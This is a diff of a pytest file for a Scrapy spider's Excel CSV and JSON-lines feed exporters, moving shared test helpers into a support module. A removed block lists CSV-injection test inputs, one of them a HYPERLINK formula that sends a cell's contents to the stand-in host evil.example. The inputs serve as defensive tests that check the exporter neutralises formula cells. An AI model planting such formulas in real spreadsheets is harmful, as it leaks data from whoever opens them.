@@ -1,9 +1,8 @@
 """Feed exporters: Excel CSV (BOM once, columns, JSON cells, no runnable cells) and unescaped
-JSON lines; ``run_feeds()`` writes items through Scrapy's own feed machinery, in process."""
+JSON lines, also through Scrapy's own feed machinery in process (``tests.support.feeds``)."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import datetime as dt
 import io
@@ -20,33 +19,21 @@ from typing import Any
 import pytest
 import scrapy
 from scrapy.exporters import JsonLinesItemExporter
-from scrapy.utils.test import get_crawler
 
-from pgy_spider import settings as project_settings
 from pgy_spider.exporters import (
     CSV_FIELDS,
     FORMULA_STARTS,
     ExcelCsvItemExporter,
     OrjsonLinesItemExporter,
 )
-from pgy_spider.notes import NOTE_FIELDS, normalize_note
+from pgy_spider.notes import NOTE_FIELDS
 from tests.support.crawl import read_jsonl, run_crawl
+from tests.support.feeds import EMOJI_TITLE, FORMULA_TEXTS, REPO_ROOT, note, read_csv, run_feeds
 from tests.support.ids import make_note_id
+from tests.support.sample import NOTE_ID
 from tests.support.simulator import SimulatorClient
-from tests.test_notes import FETCHED_AT, NOTE_ID, sample_data
 
-REPO_ROOT = Path(__file__).resolve().parent.parent
 BOM = b"\xef\xbb\xbf"
-EMOJI_TITLE = "周末探店😋🔥 第2期"
-
-
-def note(**changes: Any) -> dict[str, Any]:
-    """The sample, normalized, with an emoji title; ``changes`` override normalized keys."""
-    data = sample_data()
-    data["title"] = EMOJI_TITLE
-    item = normalize_note(data, requested_id=NOTE_ID, fetched_at=FETCHED_AT)
-    item.update(changes)
-    return item
 
 
 def export(exporter_cls: type, items: list[Any], file: Any = None, **kwargs: Any) -> bytes:
@@ -57,10 +44,6 @@ def export(exporter_cls: type, items: list[Any], file: Any = None, **kwargs: Any
         exporter.export_item(item)
     exporter.finish_exporting()
     return file.getvalue() if isinstance(file, io.BytesIO) else b""
-
-
-def read_csv(data: bytes) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
 # --- CSV ---------------------------------------------------------------------------------------
@@ -115,17 +98,6 @@ def test_csv_ids_and_multiline_text_are_kept_exactly() -> None:
     (row,) = read_csv(export(ExcelCsvItemExporter, [note(content=content, **ids)]))
     assert {key: row[key] for key in ids} == ids
     assert row["content"] == content
-
-
-# Titles that Excel and LibreOffice would run as formulas (OWASP's CSV injection).
-FORMULA_TEXTS = (
-    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
-    "+1+2",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-)
 
 
 @pytest.mark.parametrize("text", FORMULA_TEXTS)
@@ -279,7 +251,7 @@ def test_orjson_lines_rejects_unknown_options() -> None:
 SPIDER = """
     import scrapy
     from pgy_spider.notes import normalize_note
-    from tests.test_notes import FETCHED_AT, NOTE_ID, sample_data
+    from tests.support.sample import FETCHED_AT, NOTE_ID, sample_data
 
     class NotesSpider(scrapy.Spider):
         name = "notes"
@@ -329,41 +301,6 @@ def test_scrapy_feed_overwrite_then_append(tmp_path: Path) -> None:
 
 
 # --- in process, through Scrapy's feed machinery --------------------------------------------------
-
-
-class ItemsSpider(scrapy.Spider):
-    """Yields the items it is given: the simulator's titles are fixed, these are chosen."""
-
-    name = "items"
-
-    def __init__(self, items: list[dict[str, Any]], **kwargs: Any) -> None:
-        super().__init__(**kwargs)
-        self.items = items
-
-    async def start(self):  # type: ignore[no-untyped-def]
-        for item in self.items:
-            yield item
-
-
-def run_feeds(tmp_path: Path, items: list[dict[str, Any]], **formats: str) -> dict[str, Path]:
-    """Export ``items`` to ``name=format`` feeds under ``tmp_path`` with the project's
-    registered exporters, in this process (reactorless asyncio), and return their paths."""
-    paths = {fmt: tmp_path / name for name, fmt in formats.items()}
-    crawler = get_crawler(
-        ItemsSpider,
-        {
-            "TWISTED_REACTOR_ENABLED": False,
-            "FEED_EXPORTERS": project_settings.FEED_EXPORTERS,
-            "FEED_EXPORT_ENCODING": project_settings.FEED_EXPORT_ENCODING,
-            "FEEDS": {str(path): {"format": fmt, "overwrite": True} for fmt, path in paths.items()},
-            "LOG_LEVEL": "WARNING",
-        },
-    )
-    asyncio.run(crawler.crawl_async(items=items))
-    stats = crawler.stats.get_stats() if crawler.stats else {}
-    assert stats.get("finish_reason") == "finished", stats
-    assert stats.get("feedexport/success_count/FileFeedStorage") == len(paths), stats
-    return paths
 
 
 def test_feeds_in_process_neutralise_only_the_csv(tmp_path: Path) -> None:
